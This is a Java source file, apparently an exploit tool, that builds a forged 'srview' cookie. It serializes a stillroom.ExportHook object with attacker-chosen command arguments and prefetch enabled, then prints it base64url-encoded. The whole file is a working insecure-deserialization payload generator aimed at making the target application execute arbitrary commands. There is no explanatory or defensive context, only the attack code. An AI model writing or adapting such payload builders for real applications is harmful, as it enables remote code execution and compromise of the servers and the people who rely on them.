import java.io.*;
import java.util.Base64;

/** The attacker's payload builder: a stillroom.ExportHook (prefetch on) with the given argv, as the srview cookie's base64url. */
public class ViewForge {
    public static void main(String[] a) throws Exception {
        stillroom.ExportHook h = new stillroom.ExportHook();
        h.argv = a; h.prefetch = true;
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        try (ObjectOutputStream o = new ObjectOutputStream(b)) { o.writeObject(h); }
        System.out.println(Base64.getUrlEncoder().withoutPadding().encodeToString(b.toByteArray()));
    }
}
